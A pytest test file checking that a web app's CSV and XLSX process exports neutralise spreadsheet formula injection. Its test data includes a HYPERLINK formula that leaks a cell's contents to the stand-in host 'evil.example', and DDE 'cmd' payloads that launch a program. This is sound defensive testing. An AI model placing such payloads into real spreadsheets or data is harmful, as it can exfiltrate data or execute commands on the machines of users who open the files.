"""Exports: formulas in cells are neutralised in CSV and XLSX alike."""

import csv
import io

import pytest
from openpyxl import load_workbook

from norma.core.exports import neutralise
from tests.factories import PersonFactory, make_process

EXPORT_URL = "/planning/processes/export/"

DANGEROUS_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE_TITLE = "Sales and contract review"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_neutralise_prefixes_formula_starts_with_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Plain text", "Plain text"),
        ("1=1", "1=1"),
        ("a-b", "a-b"),
        ("", ""),
        (None, ""),
        (42, "42"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_neutralise_leaves_other_values_alone(value, expected):
    assert neutralise(value) == expected


def test_neutralise_handles_non_string_values_that_look_like_formulas():
    assert neutralise(-5) == "'-5"


@pytest.fixture
def register(quality_manager):
    """One process per dangerous title, one safe one, and an owner whose name is a formula."""
    evil_owner = PersonFactory(full_name="=cmd|' /C calc'!A0", roles=["process_owner"])
    for title in DANGEROUS_TITLES:
        make_process(quality_manager, title=title)
    make_process(quality_manager, title=SAFE_TITLE, owner=evil_owner)


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def assert_neutralised(titles: list[str], owners: list[str], line_ends=lambda text: text):
    for dangerous in DANGEROUS_TITLES:
        assert line_ends("'" + dangerous) in titles
    assert SAFE_TITLE in titles
    assert "'=cmd|' /C calc'!A0" in owners
    for value in titles + owners:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_csv_export_neutralises_formulas(register, client_for, quality_manager):
    response = client_for(quality_manager).get(EXPORT_URL, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    header, *rows = csv_rows(response)
    assert header[:2] == ["Reference", "Title"]
    assert len(rows) == len(DANGEROUS_TITLES) + 1
    title, owner = header.index("Title"), header.index("Owner")
    assert_neutralised([r[title] for r in rows], [r[owner] for r in rows if r[owner]])


def test_the_xlsx_export_neutralises_formulas(register, client_for, quality_manager):
    response = client_for(quality_manager).get(EXPORT_URL, {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Disposition"].endswith('.xlsx"')
    header, *rows = xlsx_rows(response)
    names = [cell.value for cell in header]
    assert len(rows) == len(DANGEROUS_TITLES) + 1
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
    title, owner = names.index("Title"), names.index("Owner")
    titles = [row[title].value for row in rows]
    owners = [row[owner].value for row in rows if row[owner].value]
    # Some XML parsers read a stored CR as LF; the quote in front is what matters.
    titles = [t.replace("\r", "\n") for t in titles]
    assert_neutralised(titles, owners, line_ends=lambda text: text.replace("\r", "\n"))


def test_the_export_follows_the_list_filters(register, client_for, quality_manager):
    response = client_for(quality_manager).get(EXPORT_URL, {"format": "csv", "q": "contract"})
    _, *rows = csv_rows(response)
    assert [row[1] for row in rows] == [SAFE_TITLE]


def test_the_export_needs_the_right_to_view_the_register(register, client_for, nobody):
    response = client_for(nobody).get(EXPORT_URL, {"format": "csv"})
    assert response.status_code == 403
